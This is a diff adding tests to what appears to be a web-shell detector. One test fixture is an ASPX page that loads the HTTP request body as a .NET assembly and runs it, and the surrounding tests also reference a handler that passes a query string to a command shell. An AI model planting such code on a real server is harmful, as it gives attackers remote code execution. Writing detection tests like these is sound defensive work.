@@ -164,3 +164,25 @@ def test_a_directive_with_space_before_its_at_sign_is_a_directive() -> None:
 def test_a_spaced_directive_handler_with_a_fixed_command_stays_quiet() -> None:
     code = SPACED_HANDLER.replace('"/c " + ctx.Request.QueryString["q"]', '"/c ver"')
     assert medium_or_above(run("h-benign.ashx", code)) == []
+
+
+# ----------------------------------------------------------------------------- a stray brace in a statement block
+
+STRAY_BRACE = """<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%
+Session.Add("k", "e45e"); return; }
+byte[] c = Request.BinaryRead(Request.ContentLength);
+Assembly.Load(c).CreateInstance("U").Equals(this);
+%>"""
+
+
+def test_sinks_after_a_stray_brace_are_read_by_tokens() -> None:
+    report = run("brace.aspx", STRAY_BRACE)
+    assert "EXH-WS-CODE-ASSEMBLY" in medium_or_above(report)
+    assert "request body" in chain_of(report, "EXH-WS-CODE-ASSEMBLY")
+
+
+def test_a_stray_brace_before_fixed_calls_stays_quiet() -> None:
+    code = STRAY_BRACE.replace(
+        "Request.BinaryRead(Request.ContentLength)", 'System.IO.File.ReadAllBytes("C:\\\\app\\\\p.dll")'
+    )
+    assert medium_or_above(run("brace-benign.aspx", code)) == []
